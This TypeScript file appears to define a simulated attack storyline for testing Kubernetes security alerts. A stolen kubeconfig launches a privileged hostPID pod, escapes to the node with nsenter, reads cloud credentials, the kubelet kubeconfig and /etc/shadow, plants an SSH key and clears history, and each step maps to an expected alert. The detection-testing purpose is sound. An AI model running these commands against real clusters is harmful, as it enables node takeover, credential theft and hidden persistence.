import { IP, USER_AGENT } from '../cluster/constants';
import type { Storyline } from '../scenario/storyline';

const POD = { namespace: 'default', name: 'sys-diag' };
const NODE = 'aks-nodepool1-38425911-vmss000001';
const hostShell = { parentExe: '/usr/bin/bash', user: 'root', inHostNamespaces: true } as const;

/** B1: a phished developer's kubeconfig, a privileged hostPID pod with the node's root mounted, nsenter into the node. */
export const privilegedPodEscape: Storyline = {
  id: 'privileged-pod-escape',
  title: 'Privileged pod escape with nsenter',
  summary:
    "A stolen developer kubeconfig creates a privileged pod sharing the node's PID namespace and mounting its root, then escapes to the node.",
  attackHourUtc: 10,
  actors: {
    attacker: {
      kind: 'user',
      upn: 'j.doe@contoso.com',
      oid: '6f2a9c4e-8b1d-4e3f-a5c7-9d0b2e4f6a81',
      sourceIp: IP.attacker,
      userAgent: USER_AGENT.kubectl,
    },
    stolenKubelet: { kind: 'node', node: NODE, sourceIp: IP.clusterEgress, userAgent: USER_AGENT.kubectl },
  },
  steps: [
    {
      at: 0,
      description: 'Creates default/sys-diag: privileged, hostPID, the node root at /host',
      actions: [
        {
          type: 'createPod',
          actor: 'attacker',
          namespace: 'default',
          name: 'sys-diag',
          node: NODE,
          fieldManager: 'kubectl-client-side-apply',
          template: {
            labels: { app: 'sys-diag' },
            serviceAccount: 'default',
            hostPID: true,
            volumes: [{ name: 'hostroot', hostPath: { path: '/', type: '' } }],
            containers: [
              {
                name: 'sys-diag',
                image: { registry: 'docker.io', repository: 'library/ubuntu', tag: '22.04' },
                command: ['sleep', 'infinity'],
                securityContext: { privileged: true },
                volumeMounts: [{ name: 'hostroot', mountPath: '/host' }],
                process: { exe: '/usr/bin/sleep', cmdline: 'sleep infinity', user: 'root' },
              },
            ],
          },
        },
      ],
    },
    {
      at: 40,
      description: 'kubectl exec -it sys-diag -- bash',
      actions: [
        { type: 'exec', actor: 'attacker', pod: POD, container: 'sys-diag', command: ['bash'], tty: true },
      ],
    },
    {
      at: 65,
      description: 'Looks around: host processes are visible',
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/bash',
          cmdline: 'id; hostname; uname -a; ps aux',
          parentExe: '/usr/bin/bash',
          user: 'root',
          tty: true,
        },
      ],
    },
    {
      at: 90,
      description: "Joins the host's namespaces through PID 1",
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/nsenter',
          cmdline: 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash',
          parentExe: '/usr/bin/bash',
          user: 'root',
          tty: true,
        },
      ],
    },
    {
      at: 130,
      description: "Reads the node's cloud credentials and the kubelet's kubeconfig",
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/cat',
          cmdline: 'cat /etc/kubernetes/azure.json',
          ...hostShell,
          files: [{ path: '/etc/kubernetes/azure.json', operation: 'read' }],
        },
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/cat',
          cmdline: 'cat /var/lib/kubelet/kubeconfig',
          ...hostShell,
          files: [{ path: '/var/lib/kubelet/kubeconfig', operation: 'read' }],
        },
      ],
    },
    {
      at: 160,
      description: "Reads the node's password hashes",
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/cat',
          cmdline: 'cat /etc/shadow',
          ...hostShell,
          files: [{ path: '/etc/shadow', operation: 'read' }],
        },
      ],
    },
    {
      at: 260,
      description: "Persists with an SSH key in the node's root account",
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/bash',
          cmdline:
            "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0Lx2x9c7vJ0f3Qx7 op@kali' >> /root/.ssh/authorized_keys",
          ...hostShell,
          files: [{ path: '/root/.ssh/authorized_keys', operation: 'write' }],
        },
      ],
    },
    {
      at: 300,
      description: "Uses the kubelet's credentials against the API server",
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/local/bin/kubectl',
          cmdline: 'kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods -A',
          ...hostShell,
          connections: [{ ip: IP.apiServerService, port: 443 }],
        },
        { type: 'api', actor: 'stolenKubelet', verb: 'list', resource: 'pods', query: 'limit=500' },
        {
          type: 'api',
          actor: 'stolenKubelet',
          verb: 'get',
          resource: 'secrets',
          namespace: 'kube-system',
          name: 'azure-policy-webhook-cert',
          code: 403,
          message: `secrets "azure-policy-webhook-cert" is forbidden: User "system:node:${NODE}" cannot get resource "secrets" in API group "" in the namespace "kube-system": no relationship found between node '${NODE}' and this object`,
        },
      ],
    },
    {
      at: 360,
      description: 'Clears the shell history',
      actions: [
        {
          type: 'process',
          pod: POD,
          exe: '/usr/bin/bash',
          cmdline: 'history -c; rm -f /root/.bash_history',
          ...hostShell,
          files: [{ path: '/root/.bash_history', operation: 'delete' }],
        },
      ],
    },
    {
      at: 450,
      description: 'Deletes the pod: its processes and files are gone',
      actions: [{ type: 'deletePod', actor: 'attacker', pod: POD }],
    },
  ],
  expectedAlerts: [
    { alertType: 'K8S_PrivilegedContainer', step: 0 },
    { alertType: 'K8S_SensitiveMount', step: 0 },
    { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 1 },
    { alertType: 'K8S.NODE_ReconnaissanceArtifactsBurst', step: 2 },
    { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 3 },
    { alertType: 'K8S.NODE_KubeConfigAccess', step: 4 },
    { alertType: 'K8S.NODE_SuspectPasswordFileAccess', step: 5 },
    { alertType: 'K8S.NODE_SshKeyAccess', step: 6 },
    { alertType: 'K8S.NODE_HistoryFileCleared', step: 8 },
  ],
};
